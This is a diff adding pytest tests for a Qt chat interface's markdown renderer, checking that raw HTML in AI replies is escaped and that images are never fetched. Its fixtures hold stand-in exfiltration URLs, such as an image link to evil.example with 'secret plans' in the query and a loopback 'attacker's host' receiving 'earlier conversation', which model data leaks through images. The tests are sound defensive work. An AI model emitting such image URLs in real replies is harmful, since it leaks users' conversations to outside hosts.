@@ -1,0 +1,104 @@
+"""Markdown rendering of replies: raw HTML stays text, images never load (C12)."""
+
+from __future__ import annotations
+
+import socket
+from collections.abc import Iterator
+
+import pytest
+from PySide6.QtWidgets import QApplication
+from pytestqt.qtbot import QtBot
+
+from ui.rendering import image_host, render_markdown, render_plain
+from ui.textview import RichTextView
+from ui.turns import Turn, TurnStatus
+from ui.turnwidget import TurnWidget
+
+
+@pytest.fixture
+def listener() -> Iterator[socket.socket]:
+    """A loopback port that counts as "the attacker's host"."""
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.setblocking(False)
+    try:
+        yield server
+    finally:
+        server.close()
+
+
+def _connections(server: socket.socket) -> int:
+    count = 0
+    while True:
+        try:
+            client, _ = server.accept()
+        except BlockingIOError:
+            return count
+        client.close()
+        count += 1
+
+
+def test_raw_html_in_a_reply_is_shown_as_text() -> None:
+    html = render_markdown('<b>bold</b> <img src="http://x.test/a.png"> <script>')
+    assert "<b>" not in html and "<img" not in html and "<script" not in html
+    assert "&lt;b&gt;bold&lt;/b&gt;" in html
+
+
+def test_markdown_is_rendered_with_highlighted_code() -> None:
+    source = "Some **bold** text.\n\n```python\ndef f():\n    pass\n```\n"
+    html = render_markdown(source)
+    assert "<strong>bold</strong>" in html
+    assert "<pre" in html and "def" in html
+    assert 'style="color' in html  # Pygments inline colours
+    assert ">python<" in html  # language label
+
+
+def test_unknown_code_language_is_escaped_not_dropped() -> None:
+    html = render_markdown("```nolang\n<a> & b\n```\n")
+    assert "&lt;a&gt; &amp; b" in html
+
+
+def test_image_becomes_a_placeholder_naming_its_host_C12() -> None:
+    html = render_markdown(
+        "![chart](https://evil.example/p.png?q=my+secret+plans) done")
+    assert "<img" not in html
+    assert "chart: image from evil.example, not loaded" in html
+    assert 'href="https://evil.example/p.png?q=my+secret+plans"' in html
+    assert image_host("data:image/png;base64,AAAA") == "embedded data"
+
+
+def test_user_prompt_is_shown_exactly_as_typed() -> None:
+    html = render_plain("a <b>b</b>\n  c")
+    assert "&lt;b&gt;" in html and "pre-wrap" in html
+
+
+def test_rendering_a_reply_with_an_image_makes_no_request_C12(
+    qtbot: QtBot, qapp: QApplication, listener: socket.socket,
+) -> None:
+    port = listener.getsockname()[1]
+    url = f"http://127.0.0.1:{port}/pixel.png?leak=earlier+conversation"
+    turn = Turn(1, "hi", text=f"Look: ![x]({url})\n\n<img src=\"{url}\">",
+                status=TurnStatus.DONE)
+    widget = TurnWidget(turn)
+    qtbot.addWidget(widget)
+    widget.show()
+    qapp.processEvents()
+
+    assert "image from 127.0.0.1, not loaded" in widget.body.toPlainText()
+    assert _connections(listener) == 0
+
+
+def test_text_view_refuses_every_resource_C12(
+    qtbot: QtBot, qapp: QApplication, listener: socket.socket,
+) -> None:
+    port = listener.getsockname()[1]
+    view = RichTextView()
+    qtbot.addWidget(view)
+    view.show_html(f'<p>x</p><img src="http://127.0.0.1:{port}/a.png">')
+    view.show()
+    qapp.processEvents()
+
+    assert view.refused, "the image was never asked for"
+    assert {(u.host(), u.port()) for u in view.refused} == {("127.0.0.1", port)}
+    assert _connections(listener) == 0
